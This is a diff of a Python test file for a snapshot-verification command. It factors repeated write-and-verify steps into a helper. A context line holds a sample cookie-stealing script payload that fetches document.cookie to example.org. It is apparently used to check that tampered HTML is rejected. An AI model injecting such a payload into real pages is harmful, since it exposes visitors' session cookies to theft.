@@ -191,16 +191,21 @@ def html_script(text: str, fmt: str) -> str:
     return first(text, "</body>", "<script>fetch('https://example.org/?'+document.cookie)</script>\n</body>")
 
 
-def check(made: Made, capsys: pytest.CaptureFixture[str], fmt: str, edited: str, codes: tuple[int, ...]) -> str:
-    assert edited != made.text(fmt), "the edit changed nothing"
+def verify_edited(made: Made, capsys: pytest.CaptureFixture[str], fmt: str, edited: str) -> tuple[int, str, str]:
+    """``snapshot verify`` of ``edited`` written beside the drafts, run from there as a reader would."""
     path = made.root / f"edited.{fmt}"
     path.write_bytes(edited.encode("utf-8"))
     old = Path.cwd()
     os.chdir(made.root)
     try:
-        code, out, err = run(capsys, "snapshot", "verify", path.name)
+        return run(capsys, "snapshot", "verify", path.name)
     finally:
         os.chdir(old)
+
+
+def check(made: Made, capsys: pytest.CaptureFixture[str], fmt: str, edited: str, codes: tuple[int, ...]) -> str:
+    assert edited != made.text(fmt), "the edit changed nothing"
+    code, out, err = verify_edited(made, capsys, fmt, edited)
     assert code in codes, (code, out, err)
     assert "verified:" not in out and "Traceback" not in err and "internal error" not in err
     return out + err
@@ -264,14 +269,7 @@ def test_a_repository_address_added_beside_a_real_commit_is_said(made: Made, cap
     url = "https://example.org/official-mfa/drafts"
     edited = render("snapshot", fmt, replace(snap, provenance=replace(snap.provenance, repository=url)))
     assert url in edited
-    path = made.root / f"edited.{fmt}"
-    path.write_bytes(edited.encode("utf-8"))
-    old = Path.cwd()
-    os.chdir(made.root)
-    try:
-        code, said, _ = run(capsys, "snapshot", "verify", path.name)
-    finally:
-        os.chdir(old)
+    code, said, _ = verify_edited(made, capsys, fmt, edited)
     assert code == 0 and f"note: the repository it names ({url}) is not this repository's public origin (none)" in said
 
 
